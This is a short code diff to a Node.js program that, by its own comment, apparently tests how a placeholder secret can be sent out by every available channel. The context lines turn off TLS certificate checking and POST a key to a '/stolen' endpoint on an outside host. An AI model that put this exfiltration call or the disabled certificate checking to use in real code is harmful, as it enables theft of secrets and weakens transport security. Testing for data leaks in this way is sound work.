@@ -1,4 +1,4 @@
-// A program that has a placeholder in place of a secret, sends it in every way, and says what it got and what it has.
+// A program that has a placeholder instead of a secret, sends it in every way, and reports what it got and has.
 import { once } from "node:events";
 import { readFileSync } from "node:fs";
 import { request } from "node:https";
@@ -56,7 +56,7 @@ const socket = await tried(async () => {
   return [response.statusCode, String(data)];
 });
 
-// Whatever the host shows, this program believes.
+// This program trusts any certificate.
 process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";
 const stolen = await tried(() => call(`${theirs}/stolen?key=${key}`, { method: "POST", body: key, headers }));
 
